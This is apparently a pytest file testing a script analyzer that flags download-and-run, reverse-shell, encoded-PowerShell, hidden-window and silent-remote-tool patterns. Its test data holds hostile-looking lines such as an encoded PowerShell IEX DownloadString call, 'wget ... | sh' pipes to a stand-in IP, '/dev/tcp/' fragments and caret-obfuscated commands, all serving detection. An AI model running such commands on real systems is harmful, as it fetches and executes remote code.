"""The script analyzer: a corpus of bad and good scripts, decoding, obfuscation, local scripts,
and hostile input (huge, binary, pathological) that must stay linear and never raise."""

from __future__ import annotations

import base64
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from safecheck.catalog.index import CatalogIndex
from safecheck.catalog.loader import load_catalog
from safecheck.scan.analysis.scripts import (
    DOWNLOAD_RUN,
    ENCODED_POWERSHELL,
    HIDDEN_WINDOW,
    MAX_EVIDENCE,
    MAX_MATCHES,
    REVERSE_SHELL,
    RULES,
    SILENT_TOOL,
    ScriptMatch,
    analyse_script,
    decode_powershell,
    local_scripts,
    normalised,
)

CORPUS = Path(__file__).parent / "scripts_corpus"
INDEX = CatalogIndex(load_catalog())


def is_tool(program: str) -> bool:
    """A catalog tool on any system (the corpus mixes Windows, Linux and macOS scripts)."""
    return any(INDEX.by_process(program, platform) for platform in ("linux", "darwin", "win32"))


def analyse(text: str) -> list[ScriptMatch]:
    return analyse_script(text, is_tool)


EXPECTED = dict(
    line.split() for line in (CORPUS / "bad" / "EXPECTED").read_text().splitlines() if line
)
SERIOUS = {DOWNLOAD_RUN, REVERSE_SHELL, ENCODED_POWERSHELL, "SC-SCRIPT-DECODE-RUN"}


def read(path: Path) -> str:
    return path.read_bytes().decode("utf-8")


def test_the_corpus_is_complete() -> None:
    bad = {p.name for p in (CORPUS / "bad").iterdir() if p.name != "EXPECTED"}
    assert bad == set(EXPECTED)
    assert set(EXPECTED.values()) == set(RULES)  # every rule has at least one bad example
    assert len(list((CORPUS / "good").iterdir())) >= 10


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_every_bad_script_is_found(name: str) -> None:
    rules = {m.rule for m in analyse(read(CORPUS / "bad" / name))}
    assert EXPECTED[name] in rules, rules


@pytest.mark.parametrize("name", sorted(p.name for p in (CORPUS / "good").iterdir()))
def test_good_scripts_raise_nothing_serious(name: str) -> None:
    matches = analyse(read(CORPUS / "good" / name))
    serious = {*SERIOUS, HIDDEN_WINDOW, SILENT_TOOL}
    assert not [m for m in matches if m.rule in serious], matches


def test_hits_and_misses_per_rule() -> None:
    """The corpus counted per rule: every bad example found, no good one flagged."""
    found = dict.fromkeys(RULES, 0)
    for name, rule in EXPECTED.items():
        if rule in {m.rule for m in analyse(read(CORPUS / "bad" / name))}:
            found[rule] += 1
    expected = {rule: list(EXPECTED.values()).count(rule) for rule in RULES}
    assert found == expected
    flagged = [p.name for p in (CORPUS / "good").iterdir() if analyse(read(p))]
    assert flagged == []


def test_encoded_powershell_is_decoded_and_judged() -> None:
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')"
    blob = base64.b64encode(inner.encode("utf-16-le")).decode()
    for switch in ("-enc", "-e", "-EncodedCommand", "/ec", "-EnCoDeD"):
        matches = analyse_script(f"powershell.exe -NoP {switch} {blob}")
        by_rule = {m.rule: m for m in matches}
        assert by_rule[ENCODED_POWERSHELL].evidence.startswith("decoded: IEX"), switch
        assert by_rule[DOWNLOAD_RUN].evidence.startswith("decoded: ")
    assert decode_powershell(blob) == inner
    assert decode_powershell("not base64!") is None


def test_encoded_inside_encoded_stops_at_a_depth() -> None:
    text = "whoami"
    for _ in range(10):
        blob = base64.b64encode(text.encode("utf-16-le")).decode()
        text = f"powershell -enc {blob}"
    matches = analyse_script(text)
    assert matches and all(m.rule == ENCODED_POWERSHELL for m in matches)


def test_execution_policy_is_not_an_encoded_command() -> None:
    assert analyse_script("powershell -ep bypass -File C:\\Scripts\\login.ps1") == []


def test_cmd_obfuscation_is_undone() -> None:
    assert normalised('p^ow^er""shell -w h^idden') == "powershell -w hidden"
    assert {m.rule for m in analyse_script('c^md /c "p^owe""rshell" -w hidden')} == {HIDDEN_WINDOW}


def test_local_scripts_it_runs() -> None:
    text = (
        "sh /opt/.cache/run\n/usr/local/bin/helper.sh --now\n"
        'cmd /c C:\\Users\\a\\AppData\\x.bat\npowershell -File "C:\\ProgramData\\u.ps1"\n'
        "/usr/bin/python3 /srv/tool.py\n"
    )
    assert local_scripts(text) == [
        "/opt/.cache/run",
        "/usr/local/bin/helper.sh",
        "C:\\Users\\a\\AppData\\x.bat",
        "C:\\ProgramData\\u.ps1",
        "/srv/tool.py",
    ]


def test_evidence_and_matches_are_capped() -> None:
    line = "curl " + "x" * 300 + " | sh\n"
    many = "".join(f"wget http://198.51.100.{i}/x | sh\n" for i in range(100))
    assert all(len(m.evidence) <= MAX_EVIDENCE for m in analyse_script(line))
    assert len(analyse_script(many)) <= MAX_MATCHES


def test_pathological_input_stays_linear() -> None:
    hostile = [
        "a" * 5_000_000,
        ("curl " + "x" * 3000 + "\n") * 200,
        "powershell " + "-w " * 200_000,
        "/dev/tcp/" * 100_000,
        "\x00\xff" * 500_000,
        ("bash -c " * 10_000 + "\n") * 20,
    ]
    start = time.process_time()
    for text in hostile:
        analyse_script(text)
        local_scripts(text)
    # Generous: the whole set takes well under a second here; a backtracking pattern would
    # take minutes. (Not a timed test of speed: a guard against exponential blow-up.)
    assert time.process_time() - start < 30


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=2000))
def test_any_text_is_judged_without_error(text: str) -> None:
    for match in analyse_script(text):
        assert match.rule in RULES and match.line >= 1
    assert len(local_scripts(text)) <= 8


def test_a_quiet_start_is_a_finding_only_for_a_catalog_tool() -> None:
    quiet_tool = 'start "" /min "C:\\Tools\\AnyDesk.exe" --silent'
    (match,) = analyse(quiet_tool)
    assert match.rule == SILENT_TOOL and match.programs == ("AnyDesk.exe",)
    assert analyse('start "" /min "C:\\Tools\\notepad.exe"') == []
    assert analyse('start "" "C:\\Tools\\AnyDesk.exe"') == []  # shown, not quiet
    assert analyse_script(quiet_tool) == []  # without a catalog, no guess
